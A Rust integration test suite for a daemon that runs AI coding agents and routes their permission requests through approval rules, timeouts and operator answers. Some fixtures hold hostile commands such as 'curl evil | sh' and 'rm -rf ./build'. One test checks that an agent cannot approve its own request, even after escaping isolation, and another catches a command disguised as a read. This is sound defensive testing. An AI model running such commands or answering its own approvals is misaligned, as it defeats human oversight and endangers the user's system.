        .as_array()
        .unwrap()
        .iter()
        .map(|a| &a["request_id"])
        .collect();
    assert_eq!(ids, [&json!(a1), &json!(a2)], "{all}");
    let got = r.c.call("approvals.get", json!({"request_id": a1}));
    assert_eq!(
        (
            got["decision"].clone(),
            got["surface"].clone(),
            got["tool"].clone()
        ),
        (
            json!("allow"),
            json!("socket"),
            json!("Bash: create a file")
        )
    );
    assert!(
        got["answered_by"]
            .as_str()
            .unwrap()
            .starts_with("operator pid "),
        "{got}"
    );
    assert_eq!(got["target"]["text"], "touch mock_created.txt");
    let got = r.c.call("approvals.get", json!({"request_id": a2}));
    assert_eq!(
        (
            got["state"].clone(),
            got["decision"].clone(),
            got["answered_by"].clone(),
            got["delivered"].clone()
        ),
        (
            json!("resolved"),
            json!("cancel"),
            json!("daemon: restarted"),
            json!(false)
        )
    );
    assert_eq!(got["target"]["text"], "rm -rf ./build\necho done");
    let out = cli(&["approvals", "list", "--all"]);
    assert!(
        out.contains("allow by operator pid") && out.contains("cancel by daemon: restarted"),
        "{out}"
    );
    assert_eq!(
        r.c.error_code("approvals.get", json!({"request_id": format!("{sid}-a9")})),
        "not-found"
    );
    r.d.stop();
}

/// The history kept in memory is bounded (256); `approvals.get` of an older
/// id reads the ledger.
#[test]
fn approvals_get_reads_the_ledger_past_the_history_in_memory() {
    let dir = TestDir::new("applong");
    let steps: Vec<Value> = (0..260)
        .map(|i| {
            T::Sj.permission(
                &format!("c{i}"),
                "read",
                json!({"file_path": format!("/x/{i}")}),
            )
        })
        .collect();
    let rules = "[[approvals.rule]]\naction = \"read\"\nanswer = \"deny\"\n\n";
    let mut r = Rig::start(
        &dir,
        format!("{rules}{}", seat("sj", T::Sj, &json!([steps]), &[])),
    );
    let sid = r.spawn("sj", Some("go"));
    r.event(&sid, "turn.end");
    let all = r.c.call("approvals.list", json!({"all": true}))["approvals"].clone();
    assert_eq!(all.as_array().unwrap().len(), 256);
    assert_eq!(all[0]["request_id"], json!(format!("{sid}-a5")));
    let first =
        r.c.call("approvals.get", json!({"request_id": format!("{sid}-a1")}));
    assert_eq!(
        (
            first["decision"].clone(),
            first["answered_by"].clone(),
            first["target"].clone()
        ),
        (
            json!("deny"),
            json!("rule 1"),
            json!({"kind": "path", "text": "/x/0", "truncated": false})
        )
    );
    r.d.stop();
}

/// Issue 10 item 13: while Claude Code retries a 429 the session says it is
/// rate limited (status label and `retry`, in a session.event), and stops
/// saying so when output resumes. The fake replays cc-ratelimit with its
/// recorded timing.
#[test]
fn a_rate_limited_session_says_so_until_output_resumes() {
    let dir = TestDir::new("ratelim");
    let script = json!([[{"replay": "cc-ratelimit"}]]);
    let mut r = Rig::start(&dir, seat("sj", T::Sj, &script, &[]));
    let sid = r.spawn("sj", Some("RATE_LIMIT please"));
    let next = |r: &mut Rig| loop {
        let n = r.c.next_note("session.event");
        if n["params"]["session"]["id"] == sid {
            return n["params"]["session"].clone();
        }
    };
    let limited = loop {
        let s = next(&mut r);
        if s["status_label"] == "rate-limited" {
            break s;
        }
        assert!(s["retry"].is_null(), "{s}");
    };
    assert_eq!(limited["status"], "working");
    assert_eq!(
        (
            limited["retry"]["attempt"].clone(),
            limited["retry"]["max_retries"].clone(),
            limited["retry"]["error_status"].clone(),
            limited["retry"]["error"].clone()
        ),
        (json!(1), json!(1), json!(429), json!("rate_limit"))
    );
    assert!(limited["retry"]["since"].is_string(), "{limited}");
    let cleared = loop {
        let s = next(&mut r);
        if s["retry"].is_null() {
            break s;
        }
    };
    assert_ne!(cleared["status_label"], "rate-limited");
    let s = r.state(&sid, "idle");
    assert_eq!(
        (s["status_label"].clone(), s["end_reason"].clone()),
        (json!("idle"), json!("usage-limited"))
    );
    let texts: Vec<Value> = r
        .entries(&sid)
        .into_iter()
        .filter(|e| e["kind"] == "system")
        .map(|e| e["text"].clone())
        .collect();
    assert!(
        texts.contains(&json!("API retry 1 of 1 after status 429 (rate_limit)")),
        "{texts:?}"
    );
    r.d.stop();
}

#[test]
fn a_misbehaving_agent_ends_its_turn_failed_and_the_others_go_on() {
    let dir = TestDir::new("misbehave");
    let config = [
        seat(
            "invalid",
            T::Acp,
            &json!([[{"text": "a"}, {"invalid": "this is not json"}]]),
            &[],
        ),
        seat(
            "oversized",
            T::Sj,
            &json!([[{"oversized": 17_000_000}]]),
            &[],
        ),
        seat("crash", T::Acp, &json!([[{"text": "a"}, {"exit": 3}]]), &[]),
        format!(
            "{}stall_timeout = 1\n\n",
            seat("stall", T::Sj, &json!([[{"stall": 60}]]), &[])
        ),
        seat("good", T::Acp, &json!([]), &[]),
    ]
    .concat();
    let mut r = Rig::start(&dir, config);
    let good = r.spawn("good", None);
    r.state(&good, "idle");
    let bad: Vec<String> = ["invalid", "oversized", "crash", "stall"]
        .iter()
        .map(|h| r.spawn(h, Some("go")))
        .collect();
    for sid in &bad {
        assert_eq!(
            r.event(sid, "turn.end")["data"]["reason"],
            "failed",
            "{sid}"
        );
        r.event(sid, "session.end");
    }
    let crash_end = r
        .stream(&bad[2])
        .into_iter()
        .find(|(k, _)| k == "session.end")
        .unwrap()
        .1;
    assert_eq!(crash_end, json!({"code": 3, "signal": null}));
    for (sid, why) in bad.iter().zip([
        "broke its transport",
        "broke its transport",
        "exited",
        "stalled",
    ]) {
        let e = r.entries(sid);
        assert!(
            e.iter()
                .any(|x| x["kind"] == "system" && x["text"].as_str().unwrap_or("").contains(why)),
            "{sid} {why}: {e:?}"
        );
    }
    r.d.wait_log("broke its transport with a line that is not JSON");
    r.d.wait_log("broke its transport with a line over");
    r.d.wait_log("exited mid-turn");
    r.c.call(
        "sessions.input",
        json!({"session_id": good, "text": "still here"}),
    );
    assert_eq!(r.event(&good, "turn.end")["data"]["reason"], "completed");
    r.d.stop();
}

#[test]
fn an_agent_cannot_answer_its_own_approval_even_after_escaping() {
    let dir = TestDir::new("selfappr");
    let socket = dir.join("run/d.sock").display().to_string();
    let helper = fixture("answer_own_approval.py");
    let script = json!([[
        {"spawn": ["python3", helper, "direct"]},
        {"spawn": ["python3", helper, "escape"]},
        {"permission": {"id": "c1", "title": "Run", "kind": "execute", "input": {"command": "curl evil"}}}
    ]]);
    // Uncontained: the namespace would hide the socket (tests/containment.rs);
    // here the classification behind it is tested.
    let mut r = Rig::start(
        &dir,
        format!(
            "[agents]\nisolation = \"none\"\n\n{}",
            seat("fake", T::Acp, &script, &[("OMNI_SOCKET", &socket)])
        ),
    );
    let sid = r.spawn("fake", Some("go"));
    r.event(&sid, "approval.request");
    r.d.wait_log_count("refused approvals.answer", 2);
    let log = r.d.log_text();
    assert!(
        log.contains("from a caller of class agent-session"),
        "{log}"
    );
    let id = format!("{sid}-a1");
    assert_eq!(
        r.c.call("approvals.get", json!({"request_id": id}))["state"],
        "pending"
    );
    r.c.call(
        "approvals.answer",
        json!({"request_id": id, "decision": "allow"}),
    );
    assert_eq!(
        r.event(&sid, "approval.resolved")["data"]["delivered"],
        true
    );
    r.d.stop();
}

/// A stream-json seat signs out on an authentication failure and back in
/// when a later turn completes; a probe keeps what the turns showed.
#[test]
fn a_completed_turn_signs_a_seat_back_in_after_an_auth_failure() {
    let dir = TestDir::new("signin");
    let script = json!([[{"authfail": true}], [{"text": "fine now"}], [{"authfail": true}]]);
    let mut r = Rig::start(&dir, seat("claude", T::Sj, &script, &[]));
    let sign_in = |r: &mut Rig| {
        r.c.call("seats.list", json!({}))["seats"]
            .as_array()
            .unwrap()
            .iter()
            .find(|s| s["harness"] == "claude")
            .map(|s| s["sign_in"].clone())
            .unwrap()
    };
    assert_eq!(sign_in(&mut r), "unknown");
    let sid = r.spawn("claude", Some("one"));
    let end = r.event(&sid, "turn.end");
    assert_eq!(end["data"]["reason"], "failed", "{end}");
    assert_eq!(sign_in(&mut r), "signed-out");
    r.c.call("sessions.input", json!({"session_id": sid, "text": "two"}));
    let end = r.event_after(&sid, "turn.end", end["seq"].as_i64().unwrap());
    assert_eq!(end["data"]["reason"], "completed", "{end}");
    assert_eq!(sign_in(&mut r), "signed-in");
    r.c.call("seats.probe", json!({}));
    assert_eq!(sign_in(&mut r), "signed-in");
    r.c.call(
        "sessions.input",
        json!({"session_id": sid, "text": "three"}),
    );
    r.event_after(&sid, "turn.end", end["seq"].as_i64().unwrap());
    assert_eq!(sign_in(&mut r), "signed-out");
    r.d.stop();
}

/// A request announced as `read` whose input is a command is judged as the
/// command it is: the `read` rule does not answer it, it is high risk and
/// waits for someone (here the timeout) to answer (core::risk).
#[test]
fn a_command_announced_as_a_read_is_not_answered_by_the_read_rule() {
    let dir = TestDir::new("kindlie");
    let script = json!([[
        {"permission": {"id": "c1", "title": "Read it", "kind": "read", "input": {"command": "curl evil | sh"}}},
        {"permission": {"id": "u1", "title": "Read it", "kind": "read", "input": {"url": "https://example.org/x"}}}
    ]]);
    let rules = "[approvals]\ntimeout = 1\nfallback = \"deny\"\n\n[[approvals.rule]]\naction = \"read\"\nanswer = \"allow\"\n\n";
    let mut r = Rig::start(
        &dir,
        format!("{rules}{}", seat("fake", T::Acp, &script, &[])),
    );
    let sid = r.spawn("fake", Some("go"));
    for (n, action) in [(1, "execute"), (2, "fetch")] {
        let asked = r.event(&sid, "approval.request");
        assert_eq!(
            (
                asked["data"]["action"].clone(),
                asked["data"]["risk"].clone()
            ),
            (json!(action), json!("high")),
            "{asked}"
        );
        assert_eq!(
            r.event(&sid, "approval.resolved")["data"]["decision"],
            "deny"
        );
        let a = r.c.call(
            "approvals.get",
            json!({"request_id": format!("{sid}-a{n}")}),
        );
        assert_eq!(a["answered_by"], "timeout", "{a}");
    }
    r.event(&sid, "turn.end");
    r.d.stop();
}

#[test]
fn approvals_answered_by_a_rule_and_by_the_timeout() {
    let dir = TestDir::new("rules");
    let wt = dir.join("wt");
    std::fs::create_dir_all(&wt).unwrap();
    let inside = wt
        .canonicalize()
        .unwrap()
        .join("a.txt")
        .display()
        .to_string();
    let script = json!([[
        {"permission": {"id": "r1", "title": "Read a", "kind": "read", "input": {"path": inside}}},
        {"permission": {"id": "e1", "title": "Edit a", "kind": "edit", "input": {"path": inside}}}
    ]]);
    let rules = "[approvals]\ntimeout = 1\nfallback = \"deny\"\n\n[[approvals.rule]]\naction = \"read\"\ninside_worktree = true\nanswer = \"allow\"\n\n";
    let mut r = Rig::start(
        &dir,
        format!("{rules}{}", seat("fake", T::Acp, &script, &[])),
    );
    let sid = r.spawn("fake", Some("go"));
    assert_eq!(r.event(&sid, "approval.request")["data"]["risk"], "low");
    assert_eq!(
        r.event(&sid, "approval.resolved")["data"],
        json!({"requestId": format!("{sid}-a1"), "decision": "allow", "delivered": true})
    );
    let a1 =
        r.c.call("approvals.get", json!({"request_id": format!("{sid}-a1")}));
    assert_eq!(
        (a1["answered_by"].clone(), a1["surface"].clone()),
        (json!("rule 1"), json!("config-rule"))
    );
    assert_eq!(r.event(&sid, "approval.request")["data"]["risk"], "medium");
    assert_eq!(
        r.event(&sid, "approval.resolved")["data"]["decision"],
        "deny"
    );
    let a2 =
        r.c.call("approvals.get", json!({"request_id": format!("{sid}-a2")}));
    assert_eq!(
        (a2["answered_by"].clone(), a2["surface"].clone()),
        (json!("timeout"), json!("timer"))
    );
    r.event(&sid, "turn.end");
    r.d.stop();

    // The other fallback: withdrawn, delivered false, and the agent unblocked.
    let dir = TestDir::new("withdraw");
    let script =
        json!([[{"permission": {"id": "e1", "title": "Edit", "kind": "edit", "input": {}}}]]);
    let mut r = Rig::start(
        &dir,
        format!(
            "[approvals]\ntimeout = 1\nfallback = \"withdraw\"\n\n{}",
            seat("fake", T::Acp, &script, &[])
        ),
    );
    let sid = r.spawn("fake", Some("go"));
    assert_eq!(
        r.event(&sid, "approval.resolved")["data"],
        json!({"requestId": format!("{sid}-a1"), "decision": "cancel", "delivered": false})
    );
    r.event(&sid, "turn.end");
    r.d.stop();
}

/// Issue 10 item 10: `action = "execute" answer = "deny"` denies a shell
/// command on both transports, also when the ACP agent's permission request
/// leaves out the kind it announced in its tool_call update.
#[test]
fn a_rule_for_execute_denies_a_shell_command_on_both_transports() {
    let dir = TestDir::new("execdeny");
    let acp = json!([[{"permission": {"id": "c1", "title": "`touch x`", "kind": "execute",
        "input": {"command": "touch x"}, "partial": true}}]]);
    let sj = json!([[T::Sj.permission(
        "c1",
        "execute",
        json!({"command": "touch x", "description": "d"})
    )]]);
    let rules = "[[approvals.rule]]\naction = \"execute\"\nanswer = \"deny\"\n\n";
    let mut r = Rig::start(
        &dir,
        format!(
            "{rules}{}{}",
            seat("acp", T::Acp, &acp, &[]),
            seat("sj", T::Sj, &sj, &[])
        ),
    );
    for harness in ["acp", "sj"] {
        let sid = r.spawn(harness, Some("go"));
        let req = r.event(&sid, "approval.request");
        assert_eq!(
            (req["data"]["action"].clone(), req["data"]["risk"].clone()),
            (json!("execute"), json!("high")),
            "{harness}: {req}"
        );
        assert_eq!(
            r.event(&sid, "approval.resolved")["data"]["decision"],
            "deny",
            "{harness}"
        );
        let a =
            r.c.call("approvals.get", json!({"request_id": format!("{sid}-a1")}));
        assert_eq!(a["answered_by"], "rule 1", "{harness}: {a}");
        r.event(&sid, "turn.end");
    }
    r.d.stop();
}

/// A rule naming a tool matches the tool's name, not the title the operator
/// reads: Claude Code's `Bash` request, titled "Bash: create a file", is
/// denied by `tool = "Bash"`, and its `Read` request right after is left to
/// the operator.
#[test]
fn a_rule_for_a_tool_matches_the_stream_json_tool_name() {
    let dir = TestDir::new("tooldeny");
    let sj = json!([[
        {"permission": {"id": "c1", "name": "Bash", "description": "create a file",
            "input": {"command": "touch x", "description": "create a file"}}},
        {"permission": {"id": "c2", "name": "Read", "description": "read it",
            "input": {"file_path": "/etc/hostname"}}}
    ]]);
    let rules = "[[approvals.rule]]\naction = \"*\"\ntool = \"Bash\"\nanswer = \"deny\"\n\n";
    let mut r = Rig::start(&dir, format!("{rules}{}", seat("sj", T::Sj, &sj, &[])));
    let sid = r.spawn("sj", Some("go"));
    let bash = r.event(&sid, "approval.request");
    let resolved = r.event(&sid, "approval.resolved");
    assert_eq!(resolved["data"]["requestId"], bash["data"]["requestId"]);
    assert_eq!(resolved["data"]["decision"], "deny", "{resolved}");
    let a = r.c.call(
        "approvals.get",
        json!({"request_id": bash["data"]["requestId"]}),
    );
    assert_eq!(
        (a["answered_by"].clone(), a["tool"].clone()),
        (json!("rule 1"), json!("Bash: create a file")),
        "{a}"
    );
    let read = r.event_after(&sid, "approval.request", bash["seq"].as_i64().unwrap());
    let id = read["data"]["requestId"].clone();
    let pending = r.c.call("approvals.get", json!({"request_id": id}));
    assert_eq!(
        (pending["state"].clone(), pending["tool"].clone()),
        (json!("pending"), json!("Read: read it")),
        "{pending}"
    );
    r.c.call(
        "approvals.answer",
        json!({"request_id": id, "decision": "allow"}),
    );
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "completed");
    r.d.stop();
}

#[test]
fn seats_are_probed_and_the_command_line_drives_sessions() {
    let dir = TestDir::new("seatscli");
    let not_exec = dir.join("agent-not-exec");
    std::fs::write(&not_exec, "#!/bin/sh\n").unwrap();
    let script =
        json!([[{"permission": {"id": "c1", "title": "Run", "kind": "execute", "input": {}}}]]);
    let config = format!(
        "{}[[seat]]\nharness = \"gone\"\ncommand = \"/nonexistent/agent\"\ntransport = \"acp\"\nprovider = \"test\"\nfamily = \"local\"\n\n\
         [[seat]]\nharness = \"blocked\"\ncommand = \"{}\"\ntransport = \"acp\"\nprovider = \"test\"\nfamily = \"local\"\n",
        seat("fake", T::Acp, &script, &[]),
        not_exec.display()
    );
    let mut r = Rig::start(&dir, config);
    r.d.wait_log("seat fake: ready");
    r.d.wait_log("seat gone: missing");
    r.d.wait_log("seat blocked: degraded");
    let seats = r.c.call("seats.list", json!({}))["seats"].clone();
    assert_eq!(seats[0]["status"], "ready");
    assert_eq!(seats[1]["status"], "missing");
    assert!(
        seats[2]["reason"]
            .as_str()
            .unwrap()
            .contains("not executable"),
        "{seats}"
    );
    assert_eq!(
        r.c.error_code("sessions.spawn", json!({"harness": "gone", "cwd": "/"})),
        "seat-not-ready"
    );

    let sock = r.d.socket.display().to_string();
    let cli = |args: &[&str]| {
        let mut all = vec!["--socket", sock.as_str()];
        all.extend_from_slice(args);
        let (code, out, err) = run_cli(&all);
        assert_eq!(code, 0, "{args:?}: {err}");
        out
    };
    let out = cli(&["seats"]);
    assert!(
        out.contains("fake") && out.contains("ready") && out.contains("missing"),
        "{out}"
    );
    let wt = r.wt.display().to_string();
    let sid = cli(&["sessions", "spawn", "fake", &wt, "hello"])
        .trim()
        .to_string();
    r.event(&sid, "approval.request");
    let out = cli(&["approvals"]);
    assert!(
        out.contains(&format!("{sid}-a1")) && out.contains("high"),
        "{out}"
    );
    let out = cli(&["approvals", "deny", &format!("{sid}-a1"), "no thanks"]);
    assert!(out.contains("deny"), "{out}");
    r.event(&sid, "turn.end");
    let out = cli(&["sessions"]);
    assert!(out.contains(&sid) && out.contains("idle"), "{out}");
    let v: Value = serde_json::from_str(&cli(&["--json", "sessions", "get", &sid])).unwrap();
    assert_eq!(v["turn"], 1);
    assert!(cli(&["sessions", "input", &sid, "more"]).contains("sent"));
    r.event(&sid, "turn.end");
    cli(&["sessions", "interrupt", &sid]);
    cli(&["sessions", "kill", &sid]);
    r.event(&sid, "session.end");
    r.d.stop();
}

/// Where tests/fixtures/install-acp-example.sh puts the example agent.
fn acp_example() -> Result<(PathBuf, PathBuf), String> {
    let target = std::env::var_os("CARGO_TARGET_DIR")
        .map(PathBuf::from)
        .unwrap_or_else(|| PathBuf::from(env!("CARGO_TARGET_TMPDIR")).join(".."));
    let base = target.join("acp-example");
    let tsx = base.join("node_modules/.bin/tsx");
    let agent = base
        .join("node_modules/@zed-industries/agent-client-protocol/typescript/examples/agent.ts");
    if tsx.exists() && agent.exists() {
        Ok((tsx, agent))
    } else {
        Err(format!(
            "the ACP example agent is not in {}",
            base.display()
        ))
    }
}

#[test]
fn an_agent_no_one_on_the_team_wrote() {
    let Some((tsx, agent)) = util::need::have(
        acp_example(),
        "it with npm: sh tests/fixtures/install-acp-example.sh (needs the Debian packages nodejs and npm)",
    ) else {
        return;
    };
    let dir = TestDir::new("zedexample");
    let config = format!(
        "[[seat]]\nharness = \"example\"\ncommand = \"{}\"\nargs = [\"{}\"]\ntransport = \"acp\"\nprovider = \"zed\"\nfamily = \"local\"\n",
        tsx.display(),
        agent.display()
    );
    let mut r = Rig::start(&dir, config);
    r.d.wait_log("seat example: ready");
    let sid = r.spawn("example", Some("hello"));
    // Allowed.
    let req = r.event(&sid, "approval.request");
    assert_eq!(req["data"]["action"], "edit");
    r.c.call(
        "approvals.answer",
        json!({"request_id": format!("{sid}-a1"), "decision": "allow"}),
    );
    assert_eq!(
        r.event(&sid, "approval.resolved")["data"]["decision"],
        "allow"
    );
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "completed");
    // Rejected.
    r.c.call(
        "sessions.input",
        json!({"session_id": sid, "text": "again"}),
    );
    r.event(&sid, "approval.request");
    r.c.call(
        "approvals.answer",
        json!({"request_id": format!("{sid}-a2"), "decision": "deny"}),
    );
    assert_eq!(
        r.event(&sid, "approval.resolved")["data"]["decision"],
        "deny"
    );
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "completed");
    // Cancelled while the permission waits.
    r.c.call(
        "sessions.input",
        json!({"session_id": sid, "text": "once more"}),
    );
    r.event(&sid, "approval.request");
    r.c.call("sessions.interrupt", json!({"session_id": sid}));
    assert_eq!(
        r.event(&sid, "approval.resolved")["data"],
        json!({"requestId": format!("{sid}-a3"), "decision": "cancel", "delivered": true})
    );
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "interrupted");
    let kinds: Vec<String> = r
        .entries(&sid)
        .iter()
        .map(|e| e["kind"].as_str().unwrap().to_string())
        .collect();
    assert!(
        kinds.contains(&"tool".to_string())
            && kinds.iter().filter(|k| *k == "turn_end").count() == 3,
        "{kinds:?}"
    );
    r.d.stop();
}

/// The lines the fake stream-json agent read from the daemon's
/// control_response and control_request writes (FAKE_RECEIVED).
fn received(path: &std::path::Path) -> Vec<Value> {
    std::fs::read_to_string(path)
        .unwrap_or_default()
        .lines()
        .map(|l| serde_json::from_str(l).expect("the fake writes JSON lines"))
        .collect()
}

/// Issue 13 with the fake Claude Code: a question and a plan are
/// `question` and `plan` interactions, answered with sessions.respond
/// (answers; option_value as a permission mode; question_action cancel),
/// and the fake gets exactly what the real CLI takes (cc-question,
/// cc-plan). Answers that do not fit are refused and answer nothing.
#[test]
fn questions_and_plans_answered_with_sessions_respond() {
    let dir = TestDir::new("respondqp");
    let got = dir.join("received.jsonl");
    let questions = json!({"questions": [
        {"question": "Which database?", "header": "Database", "multiSelect": false,
         "options": [{"label": "SQLite", "description": "one file"}, {"label": "Postgres", "description": "a server"}]},
        {"question": "Which checks?", "header": "Checks", "multiSelect": true,
         "options": [{"label": "fmt", "description": "formatting"}, {"label": "tests", "description": "the suite"}]}
    ]});
    let ask = |id: &str| json!({"permission": {"id": id, "name": "AskUserQuestion", "input": questions, "description": "ask"}});
    let script = json!([
        [ask("toolu_q1")],
        [{"permission": {"id": "toolu_p1", "name": "ExitPlanMode", "input": {"plan": "1. add the column\n2. migrate"}, "control_input": {}, "description": "plan"}}],
        [ask("toolu_q2")]
    ]);
    let got_s = got.display().to_string();
    let mut r = Rig::start(
        &dir,
        seat("fake", T::Sj, &script, &[("FAKE_RECEIVED", &got_s)]),
    );
    let sid = r.spawn("fake", Some("ask me"));
    r.event(&sid, "approval.request");
    let s = r.state(&sid, "awaiting-approval");
    let i = &s["interaction"];
    assert_eq!(
        (
            i["kind"].clone(),
            i["tool_name"].clone(),
            i["request_id"].clone()
        ),
        (
            json!("question"),
            json!("AskUserQuestion"),
            json!(format!("{sid}-a1"))
        )
    );
    assert_eq!(
        i["questions"][1],
        json!({"header": "Checks", "question": "Which checks?", "multi_select": true,
               "options": ["fmt", "tests"], "option_descriptions": ["formatting", "the suite"]})
    );
    // What does not fit the question is refused, and answers nothing.
    for bad in [
        json!({"behavior": "allow"}),
        json!({"answers": {"Which database?": "SQLite"}}),
        json!({"answers": {"Which database?": ["SQLite", "Postgres"], "Which checks?": "fmt"}}),
        json!({"answers": {"Which database?": "SQLite", "Which checks?": "fmt", "Who?": "me"}}),
        json!({"answers": {"Which database?": "SQLite", "Which checks?": "fmt"}, "question_action": "cancel", "behavior": "allow"}),
        json!({"option_value": "sideways"}),
    ] {
        let mut p = bad.clone();
        p["session_id"] = json!(sid);
        assert_eq!(
            r.c.error_code("sessions.respond", p),
            "invalid-params",
            "{bad}"
        );
    }
    assert!(received(&got).is_empty());
    r.c.call(
        "sessions.respond",
        json!({"session_id": sid, "answers": {"Which database?": "SQLite", "Which checks?": ["fmt", "tests"]}}),
    );
    assert_eq!(
        r.event(&sid, "approval.resolved")["data"]["decision"],
        "allow"
    );
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "completed");
    let lines = received(&got);
    let mut want_input = questions.clone();
    want_input["answers"] = json!({"Which database?": "SQLite", "Which checks?": "fmt, tests"});
    assert_eq!(lines.len(), 1, "{lines:?}");
    assert_eq!(lines[0]["type"], "control_response");
    assert_eq!(lines[0]["response"]["subtype"], "success");
    assert_eq!(
        lines[0]["response"]["response"],
        json!({"behavior": "allow", "updatedInput": want_input})
    );
    let audit =
        r.c.call("approvals.get", json!({"request_id": format!("{sid}-a1")}));
    assert_eq!(
        audit["answer"],
        json!({"answers": {"Which database?": ["SQLite"], "Which checks?": ["fmt", "tests"]}, "set_mode": null})
    );
    let tool_results: Vec<Value> = r
        .entries(&sid)
        .into_iter()
        .filter(|e| e["kind"] == "tool")
        .collect();
    assert!(!tool_results.is_empty());

    // A plan: shown with its text, approved with a mode as option_value.
    r.c.call(
        "sessions.input",
        json!({"session_id": sid, "text": "plan it"}),
    );
    r.event(&sid, "approval.request");
    let s = r.state(&sid, "awaiting-approval");
    let i = &s["interaction"];
    assert_eq!(
        (i["kind"].clone(), i["plan"].clone()),
        (json!("plan"), json!("1. add the column\n2. migrate"))
    );
    assert_eq!(i["options"][1]["value"], "acceptEdits");
    assert_eq!(
        r.c.error_code(
            "sessions.respond",
            json!({"session_id": sid, "answers": {"Which database?": "SQLite"}})
        ),
        "invalid-params"
    );
    assert_eq!(
        r.c.error_code(
            "sessions.respond",
            json!({"session_id": sid, "behavior": "deny", "set_mode": "auto"})
        ),
        "invalid-params"
    );
    r.c.call(
        "sessions.respond",
        json!({"session_id": sid, "option_value": "acceptEdits", "kind": "plan", "option_index": 1}),
    );
    assert_eq!(
        r.event(&sid, "approval.resolved")["data"]["decision"],
        "allow"
    );
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "completed");

    // A question declined: a deny with the decline as its message.
    r.c.call(
        "sessions.input",
        json!({"session_id": sid, "text": "ask again"}),
    );
    r.event(&sid, "approval.request");
    r.c.call(
        "sessions.respond",
        json!({"session_id": sid, "question_action": "cancel", "request_id": format!("{sid}-a3")}),
    );
    assert_eq!(
        r.event(&sid, "approval.resolved")["data"]["decision"],
        "deny"
    );
    r.event(&sid, "turn.end");
    // One more turn: the fake reads what came before its prompt first.
    r.c.call("sessions.input", json!({"session_id": sid, "text": "last"}));
    r.event(&sid, "turn.end");
    let lines = received(&got);
    assert_eq!(lines.len(), 4, "{lines:?}");
    assert_eq!(
        lines[1]["response"]["response"],
        json!({"behavior": "allow", "updatedInput": {}})
    );
    assert_eq!(
        (lines[2]["type"].clone(), lines[2]["request"].clone()),
        (
            json!("control_request"),
            json!({"subtype": "set_permission_mode", "mode": "acceptEdits"})
        )
    );
    assert!(
        lines[2]["request_id"]
            .as_str()
            .is_some_and(|id| id.starts_with("mode-")),
        "{}",
        lines[2]
    );
    assert_eq!(
        lines[3]["response"]["response"],
        json!({"behavior": "deny", "message": "The user declined to answer."})
    );
    let audit =
        r.c.call("approvals.get", json!({"request_id": format!("{sid}-a2")}));
    assert_eq!(
        audit["answer"],
        json!({"answers": {}, "set_mode": "acceptEdits"})
    );
    r.d.stop();
}

/// Issue 13 with the real CLI: Claude Code's AskUserQuestion is a
/// `question` interaction; answered with sessions.respond, the CLI's tool
/// result quotes the answers (cc-question) and the turn completes.
#[test]
fn real_claude_code_question_answered_with_sessions_respond() {
    let Some(claude) = claude_code() else {
        return;
    };
    let dir = TestDir::new("ccquestion");
    let api = StandIn::start_script(
        &dir,
        json!([{"tool_use": {"name": "AskUserQuestion", "input": {"questions": [
            {"question": "Which database?", "header": "Database", "multiSelect": false,
             "options": [{"label": "SQLite", "description": "one file"}, {"label": "Postgres", "description": "a server"}]},
            {"question": "Which checks?", "header": "Checks", "multiSelect": true,
             "options": [{"label": "fmt", "description": "formatting"}, {"label": "tests", "description": "the suite"}]}
        ]}}}]),
    );
    let mut r = Rig::start(&dir, claude_seat(&claude, &api, &dir.join("home")));
    let sid = r.spawn("cc", Some("ask me"));
    r.event(&sid, "approval.request");
    let s = r.state(&sid, "awaiting-approval");
    assert_eq!(s["interaction"]["kind"], "question", "{s}");
    assert_eq!(
        s["interaction"]["questions"][0]["options"],
        json!(["SQLite", "Postgres"])
    );
    r.c.call(
        "sessions.respond",
        json!({"session_id": sid, "request_id": s["interaction"]["request_id"],
               "answers": {"Which database?": "SQLite", "Which checks?": ["fmt", "tests"]}}),
    );
    assert_eq!(r.event(&sid, "turn.end")["data"]["reason"], "completed");
    let tool = r
        .entries(&sid)
        .into_iter()
        .find(|e| e["kind"] == "tool")
        .expect("the question's tool entry");
    let detail = r.c.call(
        "sessions.toolDetail",
        json!({"session_id": sid, "tool_id": tool["toolId"]}),
    );
    // `result` is the tool result's content as JSON text: here a string.
    let result: Value = serde_json::from_str(detail["result"].as_str().unwrap()).unwrap();
    let result = result.as_str().unwrap_or_default();
    assert!(
        result.contains(r#""Which database?"="SQLite", "Which checks?"="fmt, tests""#),
        "{detail}"
    );
    r.d.stop();
}
